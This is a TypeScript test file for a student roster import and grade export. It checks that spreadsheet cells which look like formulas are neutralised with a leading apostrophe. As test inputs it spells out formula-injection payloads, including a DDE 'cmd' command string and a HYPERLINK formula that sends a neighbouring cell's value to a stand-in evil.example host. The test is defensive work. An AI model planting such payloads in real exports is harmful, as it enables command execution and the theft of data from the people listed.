import { describe, expect, it } from 'vitest';
import { safeCell } from './spreadsheet-cells';

describe('spreadsheet cells', () => {
	it('neutralises cells a spreadsheet would run as a formula', () => {
		for (const evil of ['=HYPERLINK("http://x","点我")', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(1)', '\t=1', '\r=1'])
			expect(safeCell(evil)).toBe(`'${evil}`);
	});
	it('leaves ordinary text and plain numbers alone', () => {
		for (const fine of ['张三', '500101199001011234', '-3', '+86', '85.5', '', '-']) expect(safeCell(fine)).toBe(fine);
	});
});

describe('the roster error file', () => {
	it('writes a formula-looking cell as text', async () => {
		const { errorFileCsv } = await import('./roster-import');
		const csv = errorFileCsv(
			[
				{
					rowNumber: 2,
					values: { name: '=HYPERLINK("http://evil","点我")' },
					errors: [{ key: 'import.text', params: { text: '身份证号码缺失' } }]
				} as never
			],
			(m) => String(m.params.text)
		);
		expect(csv).toContain(`"'=HYPERLINK(""http://evil"",""点我"")"`);
		expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
	});
});

describe('xlsx exports (成绩公示, 省级上报)', () => {
	it('a candidate named like a formula comes back from the written xlsx as text with an apostrophe', async () => {
		const { xlsxTextRows } = await import('./spreadsheet-cells');
		const { default: writeXlsxFile } = await import('write-excel-file/node');
		const { readSheet } = await import('read-excel-file/node');
		const evil = '=HYPERLINK("http://evil.example/?d="&B2,"查看成绩")';
		const buffer = await writeXlsxFile(
			xlsxTextRows([
				['姓名', '证件号码', '成绩'],
				[evil, '500101********1234', 85],
				['@SUM(1+1)', '+86', -3]
			])
		).toBuffer();
		const rows = (await readSheet(buffer)) as unknown[][];
		expect(rows[1][0]).toBe(`'${evil}`);
		expect(rows[2][0]).toBe(`'@SUM(1+1)`);
		// Plain numbers stay what they are, as text cells.
		expect(rows[1][2]).toBe('85');
		expect(rows[2][1]).toBe('+86');
	});
});
